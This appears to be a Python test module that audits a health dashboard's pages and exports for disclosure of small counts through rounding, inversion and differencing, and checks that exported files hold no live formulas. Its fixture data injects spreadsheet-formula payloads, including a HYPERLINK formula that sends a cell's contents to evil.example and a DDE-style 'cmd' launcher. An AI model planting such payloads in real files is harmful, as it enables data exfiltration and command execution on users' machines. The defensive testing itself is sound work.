"""Adversarial disclosure test: try, as a viewer or analyst would, to get small numbers back.

Walks every page callback, every download route, every command-line export and every pack sheet over
two datasets -- the small demo and a tiny tricky one (the known-answer data, with formula-like
names in the loaded extracts) -- and compares every figure shown with the exact stored counts.
It fails on (counts of how many are listed in the message):

* ``small``: a count of people or events from 1 to 7 shown at any level (every level here is below
  England, BSol included);
* ``unrounded``: a shown count that is not a multiple of 5;
* ``inverted``: a value from which a suppressed or rounded count can be worked out exactly -- value x
  denominator, per-person value x people, rate x person-years, the Wilson, exact-Poisson/Byar and
  Dobson limits (each candidate count consistent with the shown figures at their shown precision;
  a leak is one consistent candidate, equal to the exact count, different from the shown one);
* ``exact-value``: a number sent to the browser or written to a file (at 9+ significant digits)
  equal to a value computed from exact counts that were rounded or hidden;
* ``differenced``: a set of cells adding up to a shown total (breakdown groups of an area; the
  areas of one parent; months of a quarter, quarters of a year for event counts) with exactly one
  hidden cell, which subtraction gives back;
* ``contradiction``: a numerator shown as 0 beside a non-zero value; ``hidden-derived``: a value
  shown where its count is hidden.

And: no file the app produces holds a live formula (every XLSX read back with openpyxl, every
CSV cell checked as a spreadsheet would read it); exact exports only for data managers, audited.
One database per dataset, shared by the module (the demo is built once: about a minute).
"""

from __future__ import annotations

import csv
import io
import json
import math
import re
import shutil
from collections import Counter
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import numpy as np
import pandas as pd
import pytest
from openpyxl import load_workbook
from scipy import stats as st

from metrics.catalogue import INDICATORS, INDICATORS_BY_ID
from tests.conftest import app_on
from tests.dash_json import components, figures
from tests.dash_json import text as shown_text

KEY = ["indicator_id", "period_type", "period", "geography_level", "geography", "breakdown", "group"]
FORMULA = ("=", "+", "-", "@", "\t", "\r")
INJECTED = {
    "neighbourhood_name": '=HYPERLINK("http://evil.example/?x="&A1,"East One")',
    "practice_name": "  @SUM(1+1)*cmd|' /C calc'!A0",
    "int_team_name": "+East INT",
}
Z = 1.959963984540054
SIG = 9  # significant digits for exact-value matching
# Indicators whose numerator counts events (rows or a sum): their months add up to the quarter.
EVENT_COUNTS = {i.id for i in INDICATORS if type(i.numerator).__name__ == "Events"
                and getattr(i.numerator, "count", "") in ("rows", "sum") and not getattr(i.numerator, "snapshot", False)
                and getattr(i.numerator, "until", None) is None and i.aggregation in ("ratio", "rate", "dsr", "count")}


# --------------------------------------------------------------------------- datasets
@dataclass
class World:
    name: str
    url: str
    data_dir: Path
    app: Any
    exact: pd.DataFrame
    prepost_exact: dict[tuple[str, int], pd.DataFrame]
    tree: pd.DataFrame
    findings: dict[str, Counter] = field(default_factory=dict)


def _build_tricky(url: str) -> None:
    from data_loaders.db import write_transaction
    from data_loaders.load import load_frames
    from metrics.pipeline import refresh_all, set_dataset_info
    from tests.kat_data import DATA_END, frames

    data = frames()
    data["practice"].loc[data["practice"].practice_code == "Y90001", "neighbourhood_name"] = \
        INJECTED["neighbourhood_name"]
    data["practice"].loc[data["practice"].practice_code == "Y90002", "practice_name"] = INJECTED["practice_name"]
    data["int_team"]["int_team_name"] = INJECTED["int_team_name"]
    with write_transaction(url) as conn:
        load_frames(conn, data)
        set_dataset_info(conn, {"data_end": DATA_END.isoformat(), "is_demo": "false", "data_start": "2023-04-01"})
        refresh_all(conn)


@pytest.fixture(scope="module", params=["demo", "tricky"])
def world(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Iterator[World]:
    from data_loaders.db import read_engine
    from metrics import prepost
    from metrics.quality import geography_tree
    from metrics.results import read_results

    data_dir = tmp_path_factory.mktemp(f"adversary-{request.param}")
    url = f"duckdb:///{data_dir / 'bsol.duckdb'}"
    if request.param == "demo":  # the run's one small demo (tests/conftest.py), copied: tests here write audits
        shutil.copyfile(request.getfixturevalue("demo_db"), data_dir / "bsol.duckdb")
    else:
        _build_tricky(url)
    with read_engine(url).connect() as conn:
        exact = read_results(conn)
        tree = geography_tree(conn)
        pp = {(c, w): prepost.read_prepost(conn, c, w) for c in prepost.COHORT_PRESETS for w in (6,)}
    with app_on(data_dir) as app_module:
        yield World(request.param, url, data_dir, app_module, _with_facts(exact), pp, tree)


def _with_facts(frame: pd.DataFrame) -> pd.DataFrame:
    out = frame.copy()
    ids = out["indicator_id"]
    out["multiplier"] = ids.map({i.id: i.multiplier for i in INDICATORS})
    out["aggregation"] = ids.map({i.id: i.aggregation for i in INDICATORS})
    out["ci"] = ids.map({i.id: i.ci for i in INDICATORS})
    out["num_disclosive"] = ids.map({i.id: i.numerator_disclosive for i in INDICATORS})
    out["den_disclosive"] = ids.map({i.id: i.denominator_disclosive for i in INDICATORS})
    return out


# --------------------------------------------------------------------------- the adversary
def _decimals(x: np.ndarray) -> np.ndarray:
    """Shown precision of each number: the fewest decimals (<= 12) that reproduce it."""
    x = np.asarray(x, dtype=float)
    out = np.full(x.shape, 13, dtype=int)
    with np.errstate(invalid="ignore"):
        atol = 1e-12 * np.maximum(1, np.abs(x))
        for k in range(12, -1, -1):
            rounded = np.round(x, k)
            same = (rounded == x) | (np.abs(rounded - x) <= atol)  # np.isclose(rtol=0), without its overhead
            out = np.where(same, k, out)
    return out


def _tol(x: np.ndarray) -> np.ndarray:
    d = _decimals(x)
    return np.where(d >= 13, 1e-9 * np.maximum(1.0, np.abs(x)), 0.5 * 10.0 ** (-d.astype(float)) + 1e-12)


def _byar(n: np.ndarray) -> tuple[np.ndarray, np.ndarray]:
    n = np.asarray(n, dtype=float)
    with np.errstate(invalid="ignore", divide="ignore"):
        ex_lo = np.where(n > 0, st.chi2.ppf(0.025, 2 * np.maximum(n, 1e-300)) / 2, 0.0)
        ex_hi = st.chi2.ppf(0.975, 2 * n + 2) / 2
        b = np.maximum(n, 10.0)
        by_lo = b * (1 - 1 / (9 * b) - Z / (3 * np.sqrt(b))) ** 3
        by_hi = (b + 1) * (1 - 1 / (9 * (b + 1)) + Z / (3 * np.sqrt(b + 1))) ** 3
    return np.where(n < 10, ex_lo, by_lo), np.where(n < 10, ex_hi, by_hi)


def _wilson(n: np.ndarray, d: np.ndarray) -> tuple[np.ndarray, np.ndarray]:
    with np.errstate(invalid="ignore", divide="ignore"):
        p = n / d
        centre = (2 * n + Z * Z) / (2 * (d + Z * Z))
        half = Z * np.sqrt(Z * Z + 4 * n * (1 - p)) / (2 * (d + Z * Z))
    return np.where(n == 0, 0.0, centre - half), np.where(n == d, 1.0, centre + half)


def audit_results(shown: pd.DataFrame, exact: pd.DataFrame, keys: list[str]) -> Counter:
    """Every check on result rows (shown: numerator, denominator, value, lower_ci, upper_ci + keys)."""
    found: Counter = Counter()
    m = shown.merge(exact, on=keys, how="inner", suffixes=("", "_x"))
    if m.empty:
        return found
    num, den = m["numerator"].to_numpy(float), m["denominator"].to_numpy(float)
    val, lo, hi = (m[c].to_numpy(float) for c in ("value", "lower_ci", "upper_ci"))
    en, ed, ev = m["numerator_x"].to_numpy(float), m["denominator_x"].to_numpy(float), m["value_x"].to_numpy(float)
    nd, dd = m["num_disclosive"].fillna(True).to_numpy(bool), m["den_disclosive"].fillna(True).to_numpy(bool)
    agg, ci = m["aggregation"].astype(str).to_numpy(), m["ci"].astype(str).to_numpy()
    mean = np.isin(agg, ["mean", "median"])
    count_unit = agg == "count"
    with np.errstate(invalid="ignore"):
        for arr, flag in ((num, nd & ~mean), (den, dd), (np.where(count_unit, val, np.nan), count_unit)):
            found["small"] += int((flag & (arr >= 1) & (arr <= 7)).sum())
            found["unrounded"] += int((flag & ~np.isnan(arr) & (np.mod(arr, 5) != 0)).sum())
        found["contradiction"] += int((np.isin(agg, ["ratio", "rate", "dsr", "count"]) & (num == 0)
                                       & ~np.isnan(val) & (val != 0)).sum())
        found["hidden-derived"] += int((nd & ~mean & np.isnan(num) & ~np.isnan(en) & ~np.isnan(val)).sum())
    # Inversion: candidate counts around the shown one (or 1-7 where hidden), exact-count formulas.
    target = nd & ~mean & (en > 0) & (en != num) & ~(np.isnan(val) & np.isnan(lo) & np.isnan(hi))
    with np.errstate(invalid="ignore", divide="ignore"):
        c_eff = np.where((en > 0) & (ed > 0), ev * ed / en, np.where(en > 0, ev / en, np.nan))
        mult = m["multiplier"].to_numpy(float)
    hits = np.zeros(len(m), dtype=int)
    which = np.full(len(m), np.nan)
    tol_val, tol_lo, tol_hi = _tol(val), _tol(lo), _tol(hi)  # the shown precision, once

    def close(shown: np.ndarray, tol: np.ndarray, pred: np.ndarray) -> np.ndarray:
        """Shown figure consistent with a prediction (NaN shown: no information, so consistent)."""
        return np.isnan(shown) | (np.abs(shown - pred) <= tol)

    for k in range(7):  # shown count: it +-2 (rounding to 5); hidden count: 1..7
        cand_n = np.where(np.isnan(num), float(k + 1), num + (k - 2) if k < 5 else np.nan)
        ok_any = np.zeros(len(m), dtype=bool)
        with np.errstate(invalid="ignore", divide="ignore"):
            bl, bu = _byar(cand_n)
        for dd_off in range(-2, 3):
            cand_d = np.where(dd, den + dd_off, den if dd_off == 0 else np.nan)
            with np.errstate(invalid="ignore", divide="ignore"):
                v_pred = np.where(count_unit, cand_n, c_eff * cand_n / np.where(np.isnan(cand_d), 1.0, cand_d))
                wl, wu = _wilson(cand_n, cand_d)
                lo_pred = np.where(ci == "wilson", wl * mult, np.where(ci == "byar", bl * c_eff / cand_d, np.nan))
                hi_pred = np.where(ci == "wilson", wu * mult, np.where(ci == "byar", bu * c_eff / cand_d, np.nan))
                ok = (cand_n >= 0) & ~np.isnan(cand_n)
                dsr = ci == "dobson"
                ok &= np.where(dsr, True, close(val, tol_val, v_pred))
                ok &= np.where(np.isin(ci, ["wilson", "byar"]), close(lo, tol_lo, lo_pred) & close(hi, tol_hi, hi_pred),
                               True)
                # Dobson: (value - lower) / (upper - value) = (n - L(n)) / (U(n) - n) for the count used.
                r_shown = (val - lo) / (hi - val)
                r_pred = (cand_n - bl) / (bu - cand_n)
                ok &= np.where(dsr & ~np.isnan(r_shown), np.abs(r_shown - r_pred) <= 1e-6 * np.abs(r_pred)
                               + (tol_val + tol_lo) / np.maximum(hi - val, 1e-300) * 2, True)
            ok_any |= ok
        hits += ok_any
        which = np.where(ok_any, cand_n, which)
    found["inverted"] += int((target & (hits == 1) & (which == en)).sum())
    # A mean x its count of people = a whole total: a unique count consistent with it gives it back.
    mean_rows = (agg == "mean") & ~np.isnan(val) & ~np.isnan(den) & (ed != den)
    if mean_rows.any():
        hits_d = np.zeros(len(m), dtype=int)
        which_d = np.full(len(m), np.nan)
        tol = tol_val
        for off in range(-2, 3):
            d = den + off
            total = np.round(val * d)
            ok = (d > 0) & (np.abs(total / np.where(d > 0, d, 1) - val) <= tol)
            hits_d += ok
            which_d = np.where(ok, d, which_d)
        found["inverted"] += int((mean_rows & (hits_d == 1) & (which_d == ed)).sum())
    return found


def _bounds(shown: np.ndarray, base: int = 5, band: int = 7) -> tuple[np.ndarray, np.ndarray]:
    """What a shown count says about the exact one: 0 is exact; r > 0 is in [r - base//2, r + base//2]
    and above the suppressed band (1-7 would have been hidden)."""
    half = base // 2
    lo = np.where(shown > 0, np.maximum(shown - half, band + 1), 0.0)
    return lo, np.where(shown > 0, shown + half, 0.0)


def pinned_by_set(set_id: np.ndarray, hidden: np.ndarray, shown: np.ndarray, exact: np.ndarray,
                  total_shown: np.ndarray) -> np.ndarray:
    """Hidden cells per additive set whose exact count interval arithmetic pins to one value.

    The worst-case adversary: knows the total (shown, rounded) and the visible parts (rounded),
    and which hidden cells are primary (1-7) -- the others are only known to be >= 0. For each
    hidden cell: h_j in [max(a_j, T_lo - sum visible hi - sum other b), min(b_j, T_hi - sum visible
    lo - sum other a)]. A single value equal to the exact count is a leak (one hidden cell is the
    classic case: its interval is exact when nothing is rounded; with rounding to 5 and the 1-7
    band, two or more hidden cells can still be pinned at the band's edges).

    One row per cell: `set_id` (0..k-1) names its set, `total_shown` is its set's shown total (NaN:
    hidden, so nothing is pinned). Returns the count per set (length k).
    """
    k = int(set_id.max()) + 1 if len(set_id) else 0
    vis_lo, vis_hi = _bounds(np.where(hidden, 0.0, shown))
    vis_lo, vis_hi = np.where(hidden, 0.0, vis_lo), np.where(hidden, 0.0, vis_hi)
    t_lo, t_hi = _bounds(total_shown)
    primary = hidden & (exact >= 1) & (exact <= 7)
    a = np.where(primary, 1.0, 0.0)
    b = np.where(primary, 7.0, np.where(hidden, np.inf, 0.0))
    per_set = {name: np.bincount(set_id, weights=w, minlength=k)
               for name, w in (("vis_lo", vis_lo), ("vis_hi", vis_hi), ("a", a), ("b", b))}
    with np.errstate(invalid="ignore"):
        h_lo_sum = t_lo - per_set["vis_hi"][set_id]
        h_hi_sum = t_hi - per_set["vis_lo"][set_id]
        lo = np.maximum(a, h_lo_sum - (per_set["b"][set_id] - b))
        hi = np.minimum(b, h_hi_sum - (per_set["a"][set_id] - a))
        pinned = hidden & ~np.isnan(total_shown) & (lo == hi) & (hi == exact) & (exact > 0)
    return np.bincount(set_id, weights=pinned, minlength=k).astype(int)


def pinned_cells(parts: pd.DataFrame, total_shown: float) -> int:
    """pinned_by_set for one additive set (parts: numerator as shown, exact_num, hidden)."""
    n = len(parts)
    return int(pinned_by_set(np.zeros(n, dtype=int), parts["hidden"].to_numpy(bool),
                             parts["numerator"].to_numpy(float), parts["exact_num"].to_numpy(float),
                             np.full(n, float(total_shown))).sum())


def differencing(shown: pd.DataFrame, exact: pd.DataFrame, tree: pd.DataFrame) -> Counter:
    """Additive sets whose hidden cells interval arithmetic on the shown total and parts pins down.

    Sets: breakdown groups of an area; areas of one parent; months of a quarter (event counts).
    ``differenced``: one hidden cell recovered (total minus the visible parts, within rounding);
    ``differenced-2+``: a cell of a set with two or more hidden cells pinned to one value.
    """
    found: Counter = Counter()
    frame = shown.merge(exact[[*KEY, "aggregation", "numerator"]].rename(columns={"numerator": "exact_num"}),
                        on=KEY, how="inner")
    frame = frame[frame["aggregation"].isin(["ratio", "rate", "dsr", "count"])]
    frame = frame.assign(hidden=frame["numerator"].isna() & frame["exact_num"].notna())
    parent: dict[tuple[str, str], tuple[str, str]] = {}
    for r in tree.itertuples(index=False):
        parent[("practice", r.practice_code)] = ("neighbourhood", r.neighbourhood)
        parent[("neighbourhood", r.neighbourhood)] = ("locality", r.locality)
        parent[("locality", r.locality)] = ("place", r.place)
        parent[("place", r.place)] = ("bsol", "BSol")
    totals = frame.drop_duplicates(KEY)[KEY + ["numerator"]].rename(columns={"numerator": "_total"})

    def audit(cells: pd.DataFrame, by: list[str], total_key: dict[str, str | pd.Series]) -> None:
        """`by`: the columns naming a set; `total_key`: each KEY column of the set's total, as a
        column of `cells` or a constant."""
        if cells.empty:
            return
        cells = cells.assign(_set=cells.groupby(by, sort=False).ngroup().to_numpy())
        cells = cells[cells["_set"] >= 0]  # (groupby drops sets with a missing key)
        set_id = cells["_set"].to_numpy()
        k = int(set_id.max()) + 1 if len(set_id) else 0
        hidden = cells["hidden"].to_numpy(bool)
        size, n_hidden = np.bincount(set_id, minlength=k), np.bincount(set_id, weights=hidden, minlength=k)
        keyed = pd.DataFrame({c: (cells[v].to_numpy() if isinstance(v, str) and v in cells.columns
                                  else np.full(len(cells), v, dtype=object)) for c, v in total_key.items()})
        keyed = keyed.astype({c: totals[c].dtype for c in KEY})
        looked = keyed.merge(totals, on=KEY, how="left", indicator=True)
        has_total = np.zeros(k, dtype=bool)
        has_total[set_id[(looked["_merge"] == "both").to_numpy()]] = True
        total = looked["_total"].to_numpy(float)
        audited = (n_hidden >= 1) & (size >= 2) & has_total
        one = audited & (n_hidden == 1)
        shown_total = np.zeros(k)
        shown_total[set_id] = total
        found["differenced"] += int((one & ~np.isnan(shown_total)).sum())
        many = audited & (n_hidden >= 2)
        if many.any():
            pinned = pinned_by_set(set_id, hidden, cells["numerator"].to_numpy(float),
                                   cells["exact_num"].to_numpy(float), total)
            found["differenced-2+"] += int(pinned[many].sum())

    bd = frame[frame.breakdown != "none"]
    audit(bd, ["indicator_id", "period_type", "period", "geography_level", "geography", "breakdown"],
          {"indicator_id": "indicator_id", "period_type": "period_type", "period": "period",
           "geography_level": "geography_level", "geography": "geography", "breakdown": "none", "group": "All"})
    kids = frame.assign(parent=[parent.get((lv, g), ("", "")) for lv, g in zip(frame.geography_level,
                                                                               frame.geography, strict=True)])
    kids = kids[kids["parent"] != ("", "")]
    kids = kids.assign(p_level=[p[0] for p in kids["parent"]], p_geo=[p[1] for p in kids["parent"]])
    audit(kids, ["indicator_id", "period_type", "period", "breakdown", "group", "geography_level", "p_level", "p_geo"],
          {"indicator_id": "indicator_id", "period_type": "period_type", "period": "period",
           "geography_level": "p_level", "geography": "p_geo", "breakdown": "breakdown", "group": "group"})
    timed = frame[frame.indicator_id.isin(EVENT_COUNTS) & (frame.period_type == "month")]
    if not timed.empty:
        start = pd.to_datetime(timed["period_start"])
        fy = np.where(start.dt.month >= 4, start.dt.year, start.dt.year - 1)
        q = ((start.dt.month - 4) % 12) // 3 + 1
        labels = [f"{y}-{(y + 1) % 100:02d} Q{n}" for y, n in zip(fy, q, strict=True)]
        timed = timed.assign(quarter=labels, quarter_type="quarter")
        audit(timed, ["indicator_id", "geography_level", "geography", "breakdown", "group", "quarter"],
              {"indicator_id": "indicator_id", "period_type": "quarter_type", "period": "quarter",
               "geography_level": "geography_level", "geography": "geography", "breakdown": "breakdown",
               "group": "group"})
    return found


def rolling_differencing(shown: pd.DataFrame, exact: pd.DataFrame) -> int:
    """Hidden months that consecutive rolling 12-month totals pin to their exact count.

    An event count's rolling totals satisfy R(t) - R(t-1) = M(t) - M(t-12), so a hidden month
    M(t) lies in [R_lo(t) - R_hi(t-1) + M_lo(t-12), R_hi(t) - R_lo(t-1) + M_hi(t-12)] and in the
    1-7 band (bounds as ``_bounds``; a hidden M(t-12) is 1-7 if primary, else only >= 0; a month
    with no row had no events). A single value equal to the exact count is a leak.
    """
    key = ["indicator_id", "geography_level", "geography", "breakdown", "group"]

    def series(frame: pd.DataFrame, period_type: str) -> pd.Series:
        f = frame[frame["indicator_id"].isin(EVENT_COUNTS) & (frame["period_type"] == period_type)]
        end = pd.to_datetime(f["period_end"]).dt.to_period("M")
        return pd.Series(f["numerator"].to_numpy(float), index=pd.MultiIndex.from_frame(
            f[key].assign(end=end.to_numpy())))

    exact_m, shown_m, shown_r = series(exact, "month"), series(shown, "month"), series(shown, "rolling_12m")
    exact_at = exact_m.reindex(shown_m.index).to_numpy(float)
    hidden = np.isnan(shown_m.to_numpy(float)) & (exact_at > 0)
    cells = shown_m.index[hidden].to_frame(index=False)
    if cells.empty:
        return 0

    def at(values: pd.Series, back: int) -> np.ndarray:
        return values.reindex(pd.MultiIndex.from_frame(cells.assign(end=cells["end"] - back))).to_numpy(float)

    (r_lo, r_hi), (p_lo, p_hi) = _bounds(at(shown_r, 0)), _bounds(at(shown_r, 1))
    back_shown, back_exact = at(shown_m, 12), at(exact_m, 12)
    b_lo, b_hi = _bounds(back_shown)
    back_hidden = np.isnan(back_shown) & (back_exact > 0)
    b_lo = np.where(np.isnan(back_exact), 0.0, np.where(back_hidden, np.where(back_exact <= 7, 1.0, 0.0), b_lo))
    b_hi = np.where(np.isnan(back_exact), 0.0, np.where(back_hidden, np.where(back_exact <= 7, 7.0, np.inf), b_hi))
    usable = ~np.isnan(at(shown_r, 0)) & ~np.isnan(at(shown_r, 1))
    with np.errstate(invalid="ignore"):
        lo = np.maximum(r_lo - p_hi + b_lo, 1.0)
        hi = np.minimum(r_hi - p_lo + b_hi, 7.0)
        return int((usable & (lo == hi) & (hi == exact_at[hidden])).sum())


def test_rolling_differencing_known_answers() -> None:
    """Worked by hand (rounding to 5: a shown 40 is 38-42, a shown 50 is 48-52)."""
    def frames(rolling: tuple[float, float], month_now: tuple[float, float], month_back: tuple[float, float]
               ) -> tuple[pd.DataFrame, pd.DataFrame]:
        ind = sorted(EVENT_COUNTS)[0]
        rows = [("rolling_12m", "2024-11-30", rolling[1], rolling[1]), ("rolling_12m", "2024-12-31", rolling[0], rolling[0]),
                ("month", "2024-12-31", month_now[0], month_now[1]), ("month", "2023-12-31", month_back[0], month_back[1])]
        base = {"indicator_id": ind, "geography_level": "bsol", "geography": "BSol", "breakdown": "none", "group": "All"}
        shown = pd.DataFrame([{**base, "period_type": t, "period_end": e, "numerator": v} for t, e, v, _ in rows])
        exact = pd.DataFrame([{**base, "period_type": t, "period_end": e, "numerator": x} for t, e, _, x in rows])
        return shown, exact

    nan = np.nan
    # R(t) 40, R(t-1) 50: M(t) - M(t-12) in [-14, -6]; both hidden primaries (1-7) -> M(t) = 1 exactly
    assert rolling_differencing(*frames((40, 50), (nan, 1), (nan, 7))) == 1
    # R(t) 45, R(t-1) 45: the difference is in [-4, 4] -> M(t) anywhere in 1-7 (as far as M(t-12) allows)
    assert rolling_differencing(*frames((45, 45), (nan, 3), (nan, 3))) == 0
    # M(t-12) shown as 10 (8-12), R(t) 40, R(t-1) 45: M(t) in [-7 + 8, -3 + 12] = [1, 9] -> 1-7, not pinned
    assert rolling_differencing(*frames((40, 45), (nan, 4), (10, 10))) == 0
    # one rolling total hidden: nothing to difference
    assert rolling_differencing(*frames((40, nan), (nan, 1), (nan, 7))) == 0


def test_rolling_windows_give_back_no_hidden_month(world: World, shown_counts: pd.DataFrame) -> None:
    if world.name != "demo":
        pytest.skip("the small demo has the rare monthly counts this needs")
    exact = world.exact.reset_index(drop=True)
    assert (shown_counts[KEY].to_numpy() == exact[KEY].to_numpy()).all()  # row for row (shown_counts)
    shown = shown_counts.assign(period_end=exact["period_end"].to_numpy())
    assert rolling_differencing(shown, exact) == 0


def test_interval_differencing_known_answers() -> None:
    """The pinning rule worked by hand (rounding to 5: a shown 10 is 8-12, a shown 40 is 38-42)."""
    def parts(nums: list[float], exact: list[float]) -> pd.DataFrame:
        return pd.DataFrame({"numerator": nums, "exact_num": exact, "hidden": [np.isnan(x) for x in nums]})

    nan = np.nan
    # total 10 (8-12), visible 10 (8-12): the two hidden primaries sum to at most 4 -> each 1-3, not pinned
    assert pinned_cells(parts([10, nan, nan], [8, 1, 1]), 10) == 0
    # total 10, two hidden primaries summing to 8-12 -> each 1-7, not pinned
    assert pinned_cells(parts([nan, nan], [4, 6]), 10) == 0
    # total 15 (13-17), two hidden primaries: sum >= 13 -> each 6-7, not pinned
    assert pinned_cells(parts([nan, nan], [7, 7]), 15) == 0
    # total 40 (38-42), visible 10 and 10 (16-24 together): hidden sum 14-26, two primaries of at most 7
    # -> both exactly 7: pinned although two cells are hidden
    assert pinned_cells(parts([10, 10, nan, nan], [12, 12, 7, 7]), 40) == 2
    # the same with a third hidden (complementary, only known to be >= 0) cell: nothing pinned
    assert pinned_cells(parts([10, nan, nan, nan], [12, 12, 7, 7]), 40) == 0
    # a total of 0 is exact: nothing hidden in it can be anything but 0 (no count of people to protect)
    assert pinned_cells(parts([0, nan], [0, 0]), 0) == 0


def exact_values(world: World) -> set[str]:
    """Values (9 significant digits) computed from exact counts that are rounded or hidden when shown."""
    e = world.exact
    changed = e["num_disclosive"].fillna(True) & (e["numerator"] > 0) & (
        (e["numerator"] % 5 != 0) | e["numerator"].between(1, 7))
    vals = pd.concat([e.loc[changed, c] for c in ("value", "lower_ci", "upper_ci")]).dropna()
    out = {_sig(v) for v in vals if not float(v).is_integer()}
    basis = {"pre_per_person": ("pre", "people"), "post_per_person": ("post", "people"),
             "pre_rate": ("pre", "people"), "post_rate": ("post", "people"), "pct_change": ("pre", "post"),
             # the ratio of two rates over the same people: person-time cancels
             "rate_ratio": ("pre", "post"), "rate_ratio_lower": ("pre", "post"),
             "rate_ratio_upper": ("pre", "post"), "pre_person_years": ("people",),
             "post_person_years": ("people",), "case_change_pp": ("did_cases",), "did_pp": ("did_cases",)}
    for frame in world.prepost_exact.values():
        if frame.empty:
            continue
        changed = frame[["pre", "post", "people", "did_cases"]].apply(lambda s: (s % 5 != 0) | s.between(1, 7))
        for c, cols in basis.items():
            if c in frame:
                rows = changed[list(cols)].any(axis=1)
                out |= {_sig(v) for v in frame.loc[rows, c].dropna() if not float(v).is_integer()}
    return out - _legit_values(world)


def _round5(x: pd.Series) -> pd.Series:
    return np.floor(x.astype(float) / 5 + 0.5) * 5


def _legit_values(world: World) -> set[str]:
    """Values a correct output may show: each ratio value from its ROUNDED counts (the HES method).

    Why: small-integer ratios repeat across cells (10/15 in one cell is 4/6 in another), so a shown
    value equal to some cell's exact value is only a leak if rounded counts cannot explain it.
    """
    e = world.exact
    n, d, v = e["numerator"].astype(float), e["denominator"].astype(float), e["value"].astype(float)
    n_r = np.where(e["num_disclosive"].fillna(True), _round5(n), n)
    d_r = np.where(e["den_disclosive"].fillna(True), _round5(d), d)
    with np.errstate(divide="ignore", invalid="ignore"):
        v_r = np.where(n > 0, v * (n_r / n) * (d / d_r), v)
    out = {_sig(x) for x in v_r if np.isfinite(x) and not float(x).is_integer()}
    same = ((n_r == n) | n.isna()) & ((d_r == d) | d.isna())  # nothing to round: the exact figures are legit
    for c in ("value", "lower_ci", "upper_ci"):
        out |= {_sig(x) for x in e.loc[same, c].dropna() if not float(x).is_integer()}
    for frame in world.prepost_exact.values():
        if frame.empty:
            continue
        pre, post, people = (_round5(frame[c]) for c in ("pre", "post", "people"))
        with np.errstate(divide="ignore", invalid="ignore"):
            rr = (post / frame["post_person_years"]) / (pre / frame["pre_person_years"])
            for x in (pre / people, post / people, post / pre * 100 - 100, rr):
                out |= {_sig(y) for y in x if np.isfinite(y) and not float(y).is_integer()}
    return out


def _sig(v: float) -> str:
    return f"{float(v):.{SIG - 1}e}"


def _numbers(obj: Any) -> Iterator[float]:
    if isinstance(obj, bool):
        return
    if isinstance(obj, float):
        yield obj
    elif isinstance(obj, dict):
        for k, v in obj.items():
            if k != "layout":  # a figure's layout is axes and domains (1/9, 2/9 ...), not data
                yield from _numbers(v)
    elif isinstance(obj, list | tuple):
        for v in obj:
            yield from _numbers(v)


def leaked_values(numbers: Any, exact: set[str]) -> int:
    n = 0
    for x in numbers:
        if x is None or not math.isfinite(x) or float(x).is_integer():
            continue
        if len(repr(abs(x)).replace(".", "").lstrip("0")) < SIG:  # shown at lower precision: keyed checks
            continue
        n += _sig(x) in exact
    return n


def _report(where: str, found: Counter) -> None:
    bad = {k: v for k, v in found.items() if v}
    assert not bad, f"{where}: disclosure leaks {bad}"


# --------------------------------------------------------------------------- command line
def _cli(world: World, *args: str) -> Any:
    return world.app.server.test_cli_runner().invoke(args=list(args), catch_exceptions=False)


def _rounding_moves_value(n_shown: Any, n_exact: Any, d_shown: Any, d_exact: Any) -> np.ndarray:
    """Where the shown counts give a different value from the exact ones (so an exact value shown
    there is a leak). 9/18 shown as 10/20 gives the same ratio: the exact value is then legit."""
    ns, nx, ds, dx = (np.asarray(x, dtype=float) for x in (n_shown, n_exact, d_shown, d_exact))
    with np.errstate(divide="ignore", invalid="ignore"):
        r = (ns / nx) * np.where(np.isfinite(ds) & np.isfinite(dx) & (ds > 0), dx / ds, 1.0)
    return ~np.isfinite(r) | (np.abs(r - 1) > 1e-12)


def test_cli_measures(world: World, tmp_path: Path) -> None:
    out = tmp_path / "measures.csv"
    done = _cli(world, "measures", "--out", str(out))
    assert done.exit_code == 0, done.output
    shown = pd.read_csv(out, keep_default_na=True, na_values=["[c]", "[x]"])
    assert len(shown) == len(world.exact) > 0
    found = audit_results(shown[[*KEY, "numerator", "denominator", "value", "lower_ci", "upper_ci"]].assign(
        period_start=pd.to_datetime(shown["period_start"])), world.exact, KEY)
    found.update(differencing(shown.assign(period_start=pd.to_datetime(shown["period_start"])), world.exact,
                              world.tree))
    # Keyed: a row's value or limits equal to the same row's exact ones where its count was rounded or hidden.
    m = shown.merge(world.exact, on=KEY, suffixes=("", "_x"))
    changed = m["num_disclosive"].fillna(True) & (m["numerator_x"] > 0) & (m["numerator_x"] != m["numerator"])
    moves = _rounding_moves_value(m["numerator"], m["numerator_x"], m["denominator"], m["denominator_x"])
    for c in ("value", "lower_ci", "upper_ci"):
        same = np.isclose(m[c], m[f"{c}_x"], rtol=1e-9, atol=0) & ~m[f"{c}_x"].apply(float.is_integer)
        found["exact-value"] += int((changed & same & (moves if c == "value" else True)).sum())
    _report(f"{world.name}: flask measures", found)


def _audit_prepost(shown: pd.DataFrame, exact: pd.DataFrame, window: int) -> Counter:
    found: Counter = Counter()
    m = shown.merge(exact, on=["int_team_code", "activity"], suffixes=("", "_x"))
    counts = ["people", "pre", "post", "died_in_post", "did_cases", "did_unmatched", "did_controls"]
    for c in counts:
        if c in m:
            v = pd.to_numeric(m[c], errors="coerce")
            found["small"] += int(v.between(1, 7).sum())
            found["unrounded"] += int((v.notna() & (v % 5 != 0)).sum())
    people = pd.to_numeric(m["people"], errors="coerce").to_numpy(float)
    for cnt, pp, rate, py in (("pre", "pre_per_person", "pre_rate", "pre_person_years"),
                              ("post", "post_per_person", "post_rate", "post_person_years")):
        s = pd.to_numeric(m[cnt], errors="coerce").to_numpy(float)
        e = m[f"{cnt}_x"].to_numpy(float)
        target = (e > 0) & (e != s)
        ppv = pd.to_numeric(m[pp], errors="coerce").to_numpy(float)
        hits, which = np.zeros(len(m), int), np.full(len(m), np.nan)
        for off in [*range(-2, 3)]:
            p = np.where(np.isnan(people), np.nan, people + off)
            n = np.round(ppv * p)
            ok = (p > 0) & (np.abs(ppv * p - n) <= _tol(ppv) * p) & ~np.isnan(ppv)
            hits += ok
            which = np.where(ok, n, which)
        found["inverted"] += int((target & (hits == 1) & (which == e)).sum())
        r, t = pd.to_numeric(m[rate], errors="coerce").to_numpy(float), pd.to_numeric(m[py], errors="coerce").to_numpy(float)
        with np.errstate(invalid="ignore"):
            n = r * t
            found["inverted"] += int((target & (np.abs(n - e) < 1e-6)).sum())
            # a full pre window: person-years = people x months / 12
